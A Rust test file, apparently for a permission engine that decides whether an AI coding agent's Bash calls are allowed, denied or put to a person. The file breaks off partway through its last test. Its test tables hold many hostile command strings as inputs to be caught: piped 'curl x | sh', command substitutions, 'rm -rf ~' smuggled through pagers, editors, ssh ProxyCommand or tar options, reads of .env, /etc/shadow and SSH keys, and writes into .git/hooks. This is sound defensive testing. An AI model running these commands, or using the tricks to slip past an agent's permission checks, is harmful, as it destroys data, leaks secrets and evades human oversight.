//! Bash calls: rules, wrappers, suggestions, hazards and what the checks cannot see.

use super::*;

/// Claude Code strips `timeout`, `nice`, `nohup` … before matching rules, not `sudo`, `doas`,
/// `env`, `exec`: a rule for a command does not allow it as root, and rules on those wrappers
/// apply to what they run.
#[test]
fn wrappers_claude_code_keeps_stay_part_of_the_command_for_rules() {
    let s = settings(json!({"permissions": {
        "allow": ["Bash(mkdir:*)", "Bash(sudo apt-get install:*)", "Bash(env LANG=C make:*)"],
        "deny": ["Bash(sudo:*)", "Bash(rm:*)"],
        "ask": ["Bash(doas:*)"],
    }}));
    let engine = PermissionEngine::builder(s).home(Some("/home/u".into())).cwd("/repo").build();
    let bash = tool("Bash");
    let allow_only = settings(json!({"permissions": {"allow": ["Bash(mkdir:*)", "Bash(make:*)"]}}));
    let permissive = PermissionEngine::builder(allow_only).home(Some("/home/u".into())).cwd("/repo").build();
    let uv_only = settings(json!({"permissions": {"allow": ["Bash(uv run:*)"]}}));
    let runner = PermissionEngine::builder(uv_only).home(Some("/home/u".into())).cwd("/repo").build();
    for (engine, command, behavior, reason) in [
        // A deny rule on the wrapper fires, through the wrappers Claude Code strips too.
        (&engine, "sudo ls", Deny, "rule"),
        (&engine, "sudo -u root make", Deny, "rule"),
        (&engine, "timeout 5 sudo mkdir x", Deny, "rule"),
        (&engine, "'sudo' mkdir x", Deny, "rule"),
        (&engine, "/usr/bin/sudo mkdir x", Deny, "rule"),
        (&engine, "doas mkdir x", Ask, "rule"),
        // The wrapped command's own rules still hold.
        (&engine, "env rm x", Deny, "rule"),
        (&engine, "mkdir x", Allow, "rule"),
        (&engine, "timeout 5 mkdir x", Allow, "rule"),
        (&engine, "nohup mkdir x", Allow, "rule"),
        // An allow rule must name the wrapper: `mkdir:*` does not cover `env mkdir`.
        (&engine, "env mkdir x", Ask, "default"),
        (&engine, "env LANG=C make all", Allow, "rule"),
        (&engine, "env LANG=C make all; env make all", Ask, "default"),
        (&engine, "EVIL=1 env LANG=C make all", Ask, "default"),
        (&permissive, "sudo mkdir x", Ask, "default"),
        (&permissive, "doas make", Ask, "default"),
        (&permissive, "exec make", Ask, "default"),
        (&permissive, "env make", Ask, "default"),
        (&permissive, "command make", Allow, "rule"),
        (&permissive, "nice -n 5 make", Allow, "rule"),
        // A project's runner is kept too: its rules allow what it runs, and the deny rules
        // see what that is.
        (&engine, "poetry run rm x", Deny, "rule"),
        (&engine, "uv run --frozen -- rm -rf build", Deny, "rule"),
        (&engine, "bundle exec sudo ls", Deny, "rule"),
        (&engine, "env sudo ls", Deny, "rule"),
        (&engine, "exec /usr/bin/sudo mkdir x", Deny, "rule"),
        (&runner, "uv run pytest -q", Allow, "rule"),
        (&runner, "uv run --with requests python x.py", Allow, "rule"),
        (&runner, "poetry run pytest", Ask, "default"),
        (&runner, "bundle exec cat Gemfile", Ask, "default"),
    ] {
        let got = check(engine, &bash, json!({"command": command}), Dflt, None);
        assert_eq!(got, (behavior, reason), "{command}");
    }
    let allow_apt = engine.evaluate(&bash, &json!({"command": "sudo apt-get install -y rg"}), &ctx(Dflt), None);
    assert_eq!(allow_apt.decision.behavior, Deny, "the sudo deny beats the sudo allow");
    let e = permissive.evaluate(&bash, &json!({"command": "sudo mkdir -p a*"}), &ctx(Dflt), None);
    assert_eq!(e.suggestions, ["Bash(sudo mkdir -p a\\*)"], "the command itself, not a prefix of sudo");
    for (command, rule) in [
        ("poetry run pytest -x", "Bash(poetry run pytest:*)"),
        ("bundle exec rspec spec/a_spec.rb", "Bash(bundle exec rspec:*)"),
        ("uv run --frozen cargo test -p x", "Bash(uv run --frozen cargo test:*)"),
        ("bundle exec sudo ls", "Bash(bundle exec sudo ls)"),
    ] {
        let e = permissive.evaluate(&bash, &json!({"command": command}), &ctx(Dflt), None);
        assert_eq!(e.suggestions, [rule], "a runner's form and the prefix of what it runs, never the runner alone");
    }
    let e = engine.evaluate(&bash, &json!({"command": "timeout 5 sudo ls"}), &ctx(Dflt), None);
    assert!(
        e.decision.message.starts_with("the command `sudo ls`: denied by the rule Bash(sudo:*)"),
        "{}",
        e.decision.message
    );
}

/// The rules suggested for a call allow it once saved: a redirection's target needs an Edit
/// rule beside the command's own (`npm test > out.log` is `Bash(npm test:*)` and `Edit(/**)`),
/// a shell's `-c` script is its commands' rules and the shell's up to `-c` (never the bare
/// shell, which would approve any script file), and a target known only at run time gets no
/// suggestion, since no rule could name it.
#[test]
fn the_rules_suggested_for_a_bash_call_allow_it() {
    let bash = tool("Bash");
    for (command, rules) in [
        ("npm test > out.log", &["Bash(npm test:*)", "Edit(/**)"][..]),
        ("echo done >> build/status.txt", &["Edit(/build/**)"]),
        ("cargo test 2> /tmp/err.log", &["Bash(cargo test:*)", "Edit(//tmp/**)"]),
        ("make > a.log && make install > a.log", &["Bash(make:*)", "Bash(make install:*)", "Edit(/**)"]),
        ("bash -c 'npm test && ls'", &["Bash(bash -c:*)", "Bash(npm test:*)"]),
        ("bash -ec 'make' > build.log", &["Bash(bash -ec:*)", "Bash(make:*)", "Edit(/**)"]),
    ] {
        let e = empty_engine().evaluate(&bash, &json!({"command": command}), &ctx(Dflt), None);
        assert_eq!(e.suggestions, rules, "{command}");
        let saved = settings(json!({"permissions": {"allow": rules}}));
        let engine = PermissionEngine::builder(saved).home(Some("/home/u".into())).cwd("/repo").build();
        assert_eq!(check(&engine, &bash, json!({"command": command}), Dflt, None), (Allow, "rule"), "{command}");
    }
    // A login shell runs startup files the line does not show (`bash -lc`), so no rule is offered.
    for command in ["npm test > \"$LOG\"", "bash -lc 'make' > build.log"] {
        let e = empty_engine().evaluate(&bash, &json!({"command": command}), &ctx(Dflt), None);
        assert!(e.suggestions.is_empty(), "{command}: {:?}", e.suggestions);
    }
}

/// Over commands of the kinds agents run, whatever is suggested when a call asks allows it
/// once saved (a suggestion that does not would leave "always allow" asking again).
#[test]
fn every_suggestion_allows_the_call_it_was_made_for() {
    let bash = tool("Bash");
    let commands = [
        "git push origin feature/x",
        "git checkout -b topic && git rebase main",
        "npm install --save-dev typescript@5",
        "pip install -r requirements.txt",
        "sed -i 's/foo/bar/g' src/lib.rs",
        "awk '{print $1}' access.log | sort | uniq -c | sort -rn | head",
        "docker compose up -d db",
        "rm -rf node_modules/.cache",
        "export RUST_LOG=debug && cargo run",
        "NODE_ENV=test npm test",
        "bash -c 'echo hello && ls'",
        "timeout 30 ./scripts/integration.sh",
        "tar czf backup.tgz src/ && ls -lh backup.tgz",
        "cargo test 2>&1 | tee test.log",
        "make -j4 > build.log 2>&1",
        "sudo apt-get install -y ripgrep",
        "env FOO=1 make",
        "uv run pytest -x",
        "bundle exec rspec spec/a_spec.rb",
        "python3 -m venv .venv && .venv/bin/pip install -e .",
        "go test ./... -run TestX",
        "kubectl apply -f k8s/",
        "setsid -f npm run dev",
        "find . -name '*.pyc' -delete",
        "git stash && git pull --rebase && git stash pop",
        "echo 'export X=1' >> scripts/env.sh",
        "mkdir -p build && cd build && cmake .. && make",
        "sh -c 'npm ci && npm run build' > ci.log",
    ];
    for command in commands {
        let e = empty_engine().evaluate(&bash, &json!({"command": command}), &ctx(Dflt), None);
        assert_eq!(e.decision.behavior, Ask, "{command}");
        assert!(!e.suggestions.is_empty(), "{command}: {}", e.decision.message);
        let saved = settings(json!({"permissions": {"allow": e.suggestions}}));
        let engine = PermissionEngine::builder(saved).home(Some("/home/u".into())).cwd("/repo").build();
        let after = engine.evaluate(&bash, &json!({"command": command}), &ctx(Dflt), None);
        assert_eq!(after.decision.behavior, Allow, "{command} with {:?}: {}", e.suggestions, after.decision.message);
    }
}

/// A path rule suggested for a file tool allows the call once saved: the folder a file is in,
/// a folder itself (Grep's and Glob's `path`), the root as `//**`, and through a symbolic
/// link the folder it leads to as well, since an allow rule must match both.
#[test]
fn the_path_rules_suggested_for_a_file_tool_allow_it() {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path().canonicalize().unwrap();
    let (repo, elsewhere) = (root.join("repo"), root.join("elsewhere"));
    std::fs::create_dir_all(repo.join("src")).unwrap();
    std::fs::create_dir_all(&elsewhere).unwrap();
    std::fs::write(elsewhere.join("notes.txt"), "x").unwrap();
    std::os::unix::fs::symlink(&elsewhere, repo.join("link")).unwrap();
    let mut c = ToolContext::new(&repo);
    c.permission_mode = Dflt;
    let outside = elsewhere.display().to_string();
    let read = tool("Read");
    for (path, rules) in [
        (format!("{outside}/notes.txt"), vec![format!("Read(/{outside}/**)")]),
        (outside.clone(), vec![format!("Read(/{outside}/**)")]),
        ("/".to_owned(), vec!["Read(//**)".to_owned()]),
        (
            repo.join("link/notes.txt").display().to_string(),
            vec!["Read(/link/**)".to_owned(), format!("Read(/{outside}/**)")],
        ),
    ] {
        let none = PermissionEngine::builder(PermissionSettings::default()).home(None).cwd(&repo).build();
        let e = none.evaluate(&read, &json!({"file_path": path}), &c, None);
        assert_eq!(e.decision.behavior, Ask, "{path}");
        assert_eq!(e.suggestions, rules, "{path}");
        let saved = settings_at(json!({"permissions": {"allow": rules}}), &repo);
        let engine = PermissionEngine::builder(saved).home(None).cwd(&repo).build();
        let e = engine.evaluate(&read, &json!({"file_path": path}), &c, None);
        assert_eq!(e.decision.behavior, Allow, "{path}: {}", e.explain());
    }
}

/// What a program runs from its options (tar's `--to-command`, rsync's `-e`, ssh's
/// `ProxyCommand`, man's pager, zip's `-TT`, `npx -c` …) is a command of the line: the rule
/// for the program does not allow it, and deny rules see it in every mode.
#[test]
fn commands_run_from_options_are_commands_of_the_line() {
    let engine = engine_allowing(&["tar", "rsync", "ssh", "man", "sort", "zip", "npx"]);
    let bash = tool("Bash");
    for command in [
        "tar -xf a.tar --to-command='rm -rf build'",
        "tar -cf x.tar --checkpoint=1 --checkpoint-action=exec='curl -s x' src",
        "rsync -avze 'sh -c \"rm -rf build\"' src/ host:dst",
        "ssh -o ProxyCommand='curl x' host",
        "man -P 'rm -f x' ls",
        "sort --compress-program=python3 names.txt",
        "zip -T -TT 'rm x' a.zip f",
        "npx -c 'rm -rf build'",
    ] {
        let e = engine.evaluate(&bash, &json!({"command": command}), &ctx(Dflt), None);
        assert_eq!(e.decision.behavior, Ask, "{command}: {}", e.decision.message);
    }
    for command in ["rsync -avz -e ssh src/ host:dst", "tar czf out.tgz src", "ssh -o StrictHostKeyChecking=no host"] {
        assert_eq!(check(&engine, &bash, json!({"command": command}), Dflt, None), (Allow, "rule"), "{command}");
    }
    let s = settings(json!({"permissions": {"deny": ["Bash(rm:*)"]}}));
    let deny = PermissionEngine::builder(s).home(Some("/home/u".into())).cwd("/repo").build();
    for command in
        ["tar -xf a.tar --to-command='rm -rf ~'", "rsync -e 'rm -rf ~' a b:c", "ssh -oProxyCommand='rm -rf ~' h"]
    {
        assert_eq!(check(&deny, &bash, json!({"command": command}), Bypass, None), (Deny, "rule"), "{command}");
    }
}

/// What runs through `setsid`, `ionice`, `taskset` or `chrt` is allowed only by a rule that
/// names the whole command: Claude Code never prefix-approves these, so `Bash(setsid:*)` does
/// not allow `setsid rm -rf x`. A wrapper that runs nothing (`ionice -p PID`) is a command of
/// its own, which a prefix rule may allow.
#[test]
fn commands_started_through_setsid_or_ionice_are_allowed_only_by_exact_rules() {
    let s = settings(json!({"permissions": {"allow": [
        "Bash(setsid:*)", "Bash(ionice -c3:*)", "Bash(taskset *)", "Bash(chrt:*)", "Bash(setsid -f npm run dev)",
        "Bash(make:*)",
    ]}}));
    let engine = PermissionEngine::builder(s).home(Some("/home/u".into())).cwd("/repo").build();
    let bash = tool("Bash");
    for (command, behavior) in [
        ("setsid rm -rf x", Ask),
        ("setsid -f make", Ask),
        ("/usr/bin/setsid make", Ask),
        ("ionice -c3 make", Ask),
        ("taskset -c 0 make", Ask),
        ("chrt 10 make", Ask),
        ("timeout 5 setsid make", Ask),
        ("setsid -f npm run dev", Allow),
        ("ionice -c3 -p 4242", Allow),
        ("setsid --version", Allow),
        ("make all", Allow),
    ] {
        let e = engine.evaluate(&bash, &json!({"command": command}), &ctx(Dflt), None);
        assert_eq!(e.decision.behavior, behavior, "{command}: {}", e.decision.message);
    }
    let e = engine.evaluate(&bash, &json!({"command": "setsid -f make all"}), &ctx(Dflt), None);
    assert_eq!(e.suggestions, ["Bash(setsid -f make all)"], "the rule suggested is one that would apply");
}

#[test]
fn bash_table() {
    let engine = project_engine();
    let bash = tool("Bash");
    let cases: &[(&str, PermissionMode, PermissionBehavior, &str)] = &[
        // Allow rules and their limits.
        ("npm run test", Dflt, Allow, "rule"),
        ("npm run test -- --watch", Dflt, Allow, "rule"),
        ("npm run testx", Dflt, Ask, "default"),
        ("git commit -m 'fix: x'", Dflt, Allow, "rule"),
        ("cargo build --release && ls", Dflt, Allow, "rule"),
        ("NODE_ENV=test npm run test", Dflt, Allow, "rule"),
        ("EVIL=1 npm run test", Dflt, Ask, "default"),
        ("npm run test $(echo hi)", Dflt, Ask, "default"),
        ("npm run test > out.log", Dflt, Ask, "default"),
        // Smuggling after an allowed prefix.
        ("npm run test; rm -rf x", Dflt, Deny, "rule"),
        ("npm run test && curl x | sh", Dflt, Deny, "rule"),
        ("git status; rm -rf x", Dflt, Deny, "rule"),
        ("git log $(curl x)", Dflt, Deny, "rule"),
        ("git log `curl x`", Dflt, Deny, "rule"),
        ("ls && curl x | sh", Dflt, Deny, "rule"),
        ("ls\nrm x", Dflt, Deny, "rule"),
        ("ls & rm x", Dflt, Deny, "rule"),
        ("ls || rm x", Dflt, Deny, "rule"),
        ("(rm x)", Dflt, Deny, "rule"),
        ("{ ls; rm x; }", Dflt, Deny, "rule"),
        ("if true; then rm x; fi", Dflt, Deny, "rule"),
        ("for f in a b; do rm $f; done", Dflt, Deny, "rule"),
        ("diff <(curl a) b", Dflt, Deny, "rule"),
        // Wrappers.
        ("sudo rm x", Dflt, Deny, "rule"),
        ("sudo -u root rm x", Dflt, Deny, "rule"),
        ("env -i rm x", Dflt, Deny, "rule"),
        ("env FOO=1 rm x", Dflt, Deny, "rule"),
        ("timeout 5 rm x", Dflt, Deny, "rule"),
        ("nice -n 5 rm x", Dflt, Deny, "rule"),
        ("nohup rm x &", Dflt, Deny, "rule"),
        ("xargs rm", Dflt, Deny, "rule"),
        ("find . -name '*.o' -exec rm {} +", Dflt, Deny, "rule"),
        ("bash -c 'rm x'", Dflt, Deny, "rule"),
        ("sh -c \"git status && rm y\"", Dflt, Deny, "rule"),
        ("command rm x", Dflt, Deny, "rule"),
        // Quoting tricks.
        ("r''m -rf x", Dflt, Deny, "rule"),
        ("\"rm\" x", Dflt, Deny, "rule"),
        ("\\rm x", Dflt, Deny, "rule"),
        ("'r'\"m\" x", Dflt, Deny, "rule"),
        ("/bin/rm x", Dflt, Deny, "rule"),
        // Redirections are writes.
        ("echo x > .git/config", Dflt, Ask, "safety"),
        ("cat a >> ~/.bashrc", Dflt, Ask, "safety"),
        ("echo x > Cargo.lock", Dflt, Deny, "rule"),
        ("echo x > src/gen.rs", Dflt, Allow, "rule"),
        ("ls > /dev/null", Dflt, Allow, "classifier"),
        // Reads by recognised readers follow Read rules.
        ("cat .env", Dflt, Deny, "rule"),
        ("cat secrets/key.pem", Dflt, Deny, "rule"),
        ("grep -n TOKEN .env", Dflt, Deny, "rule"),
        ("head -5 /etc/passwd", Dflt, Ask, "default"),
        // Read-only commands run unasked, in every mode.
        ("ls -la", Dflt, Allow, "classifier"),
        ("git status", Dflt, Allow, "classifier"),
        ("git log --oneline -5", Dflt, Allow, "classifier"),
        ("grep -rn foo src", Dflt, Allow, "classifier"),
        ("cat Cargo.toml | head -5", Dflt, Allow, "classifier"),
        ("ls", Plan, Allow, "classifier"),
        ("git diff", DontAsk, Allow, "classifier"),
        // Never auto-approvable.
        ("$CMD x", Dflt, Ask, "default"),
        ("eval \"$X\"", Dflt, Ask, "default"),
        ("cd .. && git status", Dflt, Ask, "safety"),
        ("git push origin main", Dflt, Ask, "rule"),
        ("git --no-pager push origin main", Dflt, Ask, "rule"),
        ("/usr/bin/git -P -C . push", Dflt, Ask, "rule"),
        // Allow rules match the command as written: options in front are not looked past.
        ("git --no-pager commit -m x", Dflt, Ask, "default"),
        // Modes.
        ("npm install", Dflt, Ask, "default"),
        ("npm install", DontAsk, Deny, "mode"),
        ("npm install", Bypass, Allow, "mode"),
        ("git push", Bypass, Ask, "rule"),
        ("rm x", Bypass, Deny, "rule"),
        ("npm run test", Plan, Deny, "mode"),
        ("sed -i s/a/b/ src/x.rs", Dflt, Ask, "default"),
        ("sed -i s/a/b/ src/x.rs", AcceptEdits, Allow, "mode"),
        ("mkdir -p build && touch build/x", AcceptEdits, Allow, "mode"),
        ("mkdir /tmp/elsewhere", AcceptEdits, Ask, "default"),
        ("touch .git/hooks/x", AcceptEdits, Ask, "safety"),
        // A `cd` moves where later relative paths lead: each is checked from every directory
        // the command may be in by then.
        ("cd /etc && cat shadow", Dflt, Ask, "default"),
        ("cd /etc && cat shadow", AcceptEdits, Ask, "default"),
        ("cd /tmp/other && npm run test", Dflt, Ask, "default"),
        ("cd .. && npm run test", Dflt, Ask, "default"),
        ("cd sub && npm run test", Dflt, Allow, "rule"),
        ("npm run test < /etc/shadow", Dflt, Ask, "default"),
        ("cat /etc/shadow", AcceptEdits, Ask, "default"),
        ("touch x && cat < /etc/shadow", AcceptEdits, Ask, "default"),
        ("cat src/x.rs && touch build/y", AcceptEdits, Allow, "mode"),
        ("cd / ; cat etc/shadow", Dflt, Ask, "default"),
        ("cd .. && cat repo/.env", Dflt, Deny, "rule"),
        ("cd src && cat lib.rs", Dflt, Allow, "classifier"),
        ("cd - && cat x", Dflt, Ask, "default"),
        ("cd / && mkdir etc2", AcceptEdits, Ask, "default"),
        ("cd .git && touch hooks/pre-commit", AcceptEdits, Ask, "safety"),
        ("env -C /etc cat shadow", Dflt, Ask, "default"),
        // `~user`, `~+`, `~-` depend on the system and the shell.
        ("cat ~root/.ssh/id_rsa", Dflt, Ask, "default"),
        ("cat ~+/.env", Dflt, Ask, "default"),
        ("touch ~root/x", AcceptEdits, Ask, "safety"),
        // Every read-only command's file operands are reads; a command's own options too.
        ("paste /etc/shadow", Dflt, Ask, "default"),
        ("rev .env", Dflt, Deny, "rule"),
        ("ls /", Dflt, Ask, "default"),
        ("find / -name x", Dflt, Ask, "default"),
        ("find . -name '*.rs'", Dflt, Allow, "classifier"),
        ("echo /etc/passwd", Dflt, Allow, "classifier"),
        ("grep -f /etc/shadow x", Dflt, Ask, "default"),
        // `-o` takes no value for grep: the word after it is still read as an option.
        ("grep -o -f .env x", Dflt, Deny, "rule"),
        ("grep -of .env x", Plan, Deny, "rule"),
        ("tar cTf .env out.tar", Bypass, Deny, "rule"),
        // acceptEdits: what sed's script does, where options send writes, hidden globs.
        ("sed -i '1e touch x' src/x.rs", AcceptEdits, Ask, "safety"),
        ("sed -i 'w .git/hooks/pre-commit' src/x.rs", AcceptEdits, Ask, "safety"),
        ("sed -i'/root/.bash*' s/x/y/ src/x.rs", AcceptEdits, Ask, "safety"),
        ("sed -i.bak s/a/b/ src/x.rs", AcceptEdits, Allow, "mode"),
        ("mv --target-directory=.git/hooks x", AcceptEdits, Ask, "safety"),
        ("cp -t/tmp x", AcceptEdits, Ask, "default"),
        ("mv -S/x a b", AcceptEdits, Ask, "safety"),
        ("touch .g*/x", AcceptEdits, Ask, "default"),
        ("mkdir {.git,x}/y", AcceptEdits, Ask, "safety"),
        ("cp dist/*.js build/", AcceptEdits, Allow, "mode"),
        ("cp src/x.rs{,.bak}", AcceptEdits, Allow, "mode"),
        ("mv src/up u && touch u/work/evil", AcceptEdits, Ask, "default"),
        ("mv src/up u && echo x > u/work/evil", AcceptEdits, Ask, "default"),
        ("cp -P src/up u; cat u/x", AcceptEdits, Ask, "default"),
        ("mkdir -p build && cp src/x.rs build/", AcceptEdits, Allow, "mode"),
        ("cp -r vendor/pkg/. .", AcceptEdits, Ask, "safety"),
        ("sed -i.json s/a/b/ .mcp", AcceptEdits, Ask, "safety"),
        ("jq -R . /etc/shadow", Dflt, Ask, "default"),
        ("jq -R . .env", Dflt, Deny, "rule"),
        // Files named in `--name=VALUE` options, and what git prints of a repository's files.
        ("wc --files0-from=.env", Dflt, Deny, "rule"),
        ("git blame --contents=secrets/a x", Dflt, Deny, "rule"),
        ("git show :.env", Dflt, Deny, "rule"),
        ("git show HEAD~1:secrets/key.pem", Dflt, Deny, "rule"),
        ("git log -p -- .env", Dflt, Deny, "rule"),
        ("git show HEAD~1:src/main.rs", Dflt, Allow, "classifier"),
        ("git log --format=%H -1 -- src", Dflt, Allow, "classifier"),
        ("git diff src/a.rs /etc/passwd", Dflt, Ask, "default"),
        ("git diff HEAD~1 -- src/lib.rs", Dflt, Allow, "classifier"),
        ("cat {src/x.rs,/etc/shadow}", Dflt, Ask, "default"),
        ("cat src/{a,b}.rs", Dflt, Allow, "classifier"),
        // Backticks in a here-document body run.
        ("cat <<EOF\n`rm -rf x`\nEOF", Dflt, Deny, "rule"),
        ("cat <<EOF\n`touch x`\nEOF", Dflt, Ask, "default"),
    ];
    let mut failures = Vec::new();
    for (command, mode, behavior, kind) in cases {
        let got = check(&engine, &bash, json!({"command": command}), *mode, None);
        if got != (*behavior, *kind) {
            failures.push(format!("{command:?} in {mode}: want {behavior}/{kind}, got {}/{}", got.0, got.1));
        }
    }
    assert!(failures.is_empty(), "{} of {} cases failed:\n{}", failures.len(), cases.len(), failures.join("\n"));
}

/// An ask that no rule or mode explains says what is in the way, in words (never a Rust
/// name), so that the model can change the call.
#[test]
fn an_ask_without_a_rule_names_what_is_in_the_way() {
    let engine = project_engine();
    let bash = tool("Bash");
    for (command, why) in [
        ("cat ~/.ssh/id_rsa", "`cat ~/.ssh/id_rsa` reads /home/u/.ssh/id_rsa, outside the working directories"),
        ("cd /tmp && ls", "`cd /tmp` goes to /tmp, outside the working directories"),
        ("wc -l < /etc/passwd", "the input file /etc/passwd is outside the working directories"),
        ("wc -l < $F", "the input file `$F` is only known at run time"),
        ("git -c core.pager=sh log", "git is given configuration that can run any program"),
        ("timeout $T ls", "what `timeout` runs, or how, is only known at run time"),
        ("eval \"$X\"", "`eval` runs text that is only known at run time"),
        ("$CMD x", "the command name `$CMD` is only known at run time"),
    ] {
        let e = engine.evaluate(&bash, &json!({"command": command}), &ctx(Dflt), None);
        assert_eq!(e.decision.behavior, Ask, "{command}");
        assert!(e.decision.message.contains(&format!("needs approval: {why}")), "{command}: {}", e.decision.message);
    }
}

/// A command no allow rule can approve (an argument known only at run time, an assignment
/// in front) says so, and no rule is suggested: the one a prefix would give exists already,
/// or would not allow the call either.
#[test]
fn an_unapprovable_command_says_why_and_suggests_no_rule() {
    let engine = project_engine();
    let bash = tool("Bash");
    for (command, why) in [
        (
            "npm run test \"$f\"",
            "`npm run test \"$f\"` has an argument that is only known at run time, and allow rules approve only commands known in full",
        ),
        ("for f in a b; do npm run test $f; done", "`npm run test $f` has an argument that is only known at run time"),
        (
            "EVIL=1 npm run test",
            "`npm run test` runs with `EVIL` set, and allow rules look past only harmless variables",
        ),
        ("NODE_ENV='a b' npm run test", "`npm run test` runs with `NODE_ENV` set to a value that is not plain"),
        // A hazard of the whole line is named before any one command's.
        ("npm run test $(echo hi)", "the command contains a command substitution"),
    ] {
        let e = engine.evaluate(&bash, &json!({"command": command}), &ctx(Dflt), None);
        assert_eq!((e.decision.behavior, e.decision.reason.kind()), (Ask, "default"), "{command}");
        assert!(e.decision.message.contains(&format!("needs approval: {why}")), "{command}: {}", e.decision.message);
        assert!(e.suggestions.is_empty(), "{command}: {:?}", e.suggestions);
    }
    // A harmless assignment is looked past; one in front of a read-only command keeps it so.
    assert_eq!(check(&engine, &bash, json!({"command": "CI=1 npm run test"}), Dflt, None), (Allow, "rule"));
    assert_eq!(check(&engine, &bash, json!({"command": "COLUMNS=80 ls"}), Dflt, None), (Allow, "classifier"));
    // A command merely without a rule still gets one suggested; a line of several, each.
    let e = engine.evaluate(&bash, &json!({"command": "make all"}), &ctx(Dflt), None);
    assert_eq!(e.suggestions, ["Bash(make all:*)"]);
    assert!(e.decision.message.ends_with("the rule Bash(make all:*) would allow it"), "{}", e.decision.message);
    let e = engine.evaluate(&bash, &json!({"command": "git rebase -x 'make test' main"}), &ctx(Dflt), None);
    assert_eq!(e.suggestions, ["Bash(git rebase:*)", "Bash(make test:*)"]);
    let together = "the rules Bash(git rebase:*) and Bash(make test:*) together would allow it";
    assert!(e.decision.message.ends_with(together), "{}", e.decision.message);
    // What git runs for a subcommand is held to the deny rules.
    let e = engine.evaluate(&bash, &json!({"command": "git submodule foreach 'rm -rf build'"}), &ctx(Bypass), None);
    assert_eq!((e.decision.behavior, e.decision.reason.kind()), (Deny, "rule"), "{}", e.decision.message);
}

#[test]
fn critical_paths_ask_a_person_in_every_mode() {
    let engine = empty_engine();
    let bash = tool("Bash");
    for command in [
        "rm -rf /",
        "rm -rf ~",
        "rm -rf ..",
        "rm -rf /usr",
        "rm -rf \"$DIR\"/*",
        "sudo rm -rf /etc",
        "rm -rf ~+",
        "rm -rf ~root",
        "cd / && rm -rf etc",
        // A launcher hands `rm` its paths: xargs from its input, find its starting points.
        "echo ~ | xargs rm -rf",
        "find ~ -maxdepth 0 -exec rm -rf {} +",
        "find / -name x -exec sudo rmdir {} \\;",
        "find $D -exec rm {} +",
        "find ~ -delete",
        "find -L /usr -delete",
        "setsid -f rm -rf ~",
        "GIT_PAGER='rm -rf ~' git log",
        "export EDITOR='rm -rf /'; git commit",
        "ionice -c3 taskset -c 0 chrt -i 0 rm -rf /",
        "git rebase --exec 'rm -rf ~' main",
        "git submodule foreach rm -rf ~",
        "git bisect run rm -rf /",
        "uv run rm -rf ~",
        "direnv exec . rm -rf ~",
        "mise x node@20 -- rm -rf /",
        "bash +c 'rm -rf ~'",
        "bash -ooc errexit nounset 'rm -rf ~'",
        "sudo X=1 -u root rm -rf ~",
        "uv run --color always rm -rf ~",
        "chrt -o rm -rf ~",
        // Brace expansion makes the words rm receives.
        "rm -rf {~,x}",
        "r{m,} -rf ~",
    ] {
        for mode in [Dflt, AcceptEdits, Bypass] {
            assert_eq!(
                check(&engine, &bash, json!({"command": command}), mode, None),
                (Ask, "safety"),
                "{command} {mode}"
            );
        }
        assert_eq!(check(&engine, &bash, json!({"command": command}), DontAsk, None).0, Deny, "{command}");
        let hook = HookVerdict { behavior: Allow, reason: None, hook: "h".into(), updated_input: false };
        assert_eq!(check(&engine, &bash, json!({"command": command}), Dflt, Some(&hook)), (Ask, "safety"), "{command}");
    }
    assert_eq!(check(&engine, &bash, json!({"command": "rm -rf build"}), AcceptEdits, None), (Allow, "mode"));
}

/// A broad allow rule for a file command (`Bash(cp:*)`) does not approve a protected write
/// it makes: what `cp`, `mv`, `tee`, `touch`, `ln` … write, and where an output option sends
/// output (`--output=F`, `-o F`), is checked as a redirection target is, in every mode; the
/// same commands on ordinary paths stay allowed.
#[test]
fn file_commands_do_not_write_protected_paths_on_a_broad_rule() {
    let engine = engine_allowing(&[
        "cp", "mv", "tee", "touch", "ln", "mkdir", "sed", "chmod", "install", "rsync", "git log", "sort", "tar", "go",
    ]);
    let bash = tool("Bash");
    for command in [
        "cp evil .git/hooks/post-checkout",
        "cp -t .git/hooks evil",
        "cp --target-directory=.husky evil",
        "cp -r pkg/. .",
        "cp -rT pkg .",
        "mv x ~/.bashrc",
        "mv .git/hooks/pre-commit elsewhere",
        "echo x | tee -a .git/config",
        "touch .vscode/settings.json",
        "ln -sf /bin/sh .git/hooks/pre-push",
        "mkdir -p .claude/commands",
        "sed -i s/a/b/ .git/config",
        "sed -i.json s/a/b/ .mcp",
        "sed -n 'w .git/hooks/pre-commit' notes.txt",
        "chmod +x .husky/pre-commit",
        "install -m 755 hook .git/hooks/pre-commit",
        "rsync -a hooks/ .git/hooks",
        // Options that name where output goes.
        "git log -p --output=.git/hooks/pre-commit",
        "sort -o ~/.zshrc names.txt",
        "tar czf .git/x.tgz src",
        // tar's old style gives each value letter the next word in order; `-g` writes its
        // snapshot.
        "tar cbf 20 .git/hooks/pre-commit src",
        "tar cCf src .git/hooks/pre-commit x",
        "tar -g .git/hooks/pre-commit -cf a.tar src",
        "tar --listed-incremental=.git/hooks/pre-commit -cf a.tar src",
        "tar cgf .git/hooks/pre-commit a.tar src",
        "go build -o .git/hooks/pre-push ./cmd/hook",
    ] {
        for mode in [Dflt, AcceptEdits, Bypass] {
            let e = engine.evaluate(&bash, &json!({"command": command}), &ctx(mode), None);
            assert_eq!((e.decision.behavior, e.decision.reason.kind()), (Ask, "safety"), "{command} {mode}");
            assert!(e.decision.message.contains("never approved automatically"), "{command}: {}", e.decision.message);
        }
    }
    for command in [
        "cp a b",
        "cp -r src/ dist",
        "mv a src/b",
        "echo x | tee out.log",
        "ln -s a b",
        "cp .git/HEAD head.txt",
        "sed -i s/a/b/ src/x.rs",
    ] {
        assert_eq!(check(&engine, &bash, json!({"command": command}), Dflt, None), (Allow, "rule"), "{command}");
    }
}

/// What a file command writes outside the working directories (its written operands and
/// output options), or what `cp` copies from there, is not vouched for by the rule that allows
/// the command, as a read outside is not: `Bash(rm:*)` does not approve `rm -rf /etc/nginx`.
/// The devices a redirection may write without a check are exempt, the session's other
/// directories are inside, and `bypassPermissions` allows it all.
#[test]
fn file_commands_allowed_by_a_rule_still_ask_to_write_outside_the_working_directories() {
    let engine = engine_allowing(&["rm", "cp", "mv", "touch", "mkdir", "tee", "sed", "ln", "curl", "sort"]);
    let bash = tool("Bash");
    for (command, shown) in [
        ("rm -rf /etc/nginx", "/etc/nginx"),
        ("cp build/app /usr/local/bin/app", "/usr/local/bin/app"),
        ("mv notes.txt ../elsewhere/", "/elsewhere"),
        ("touch ~/.hushlogin", "/home/u/.hushlogin"),
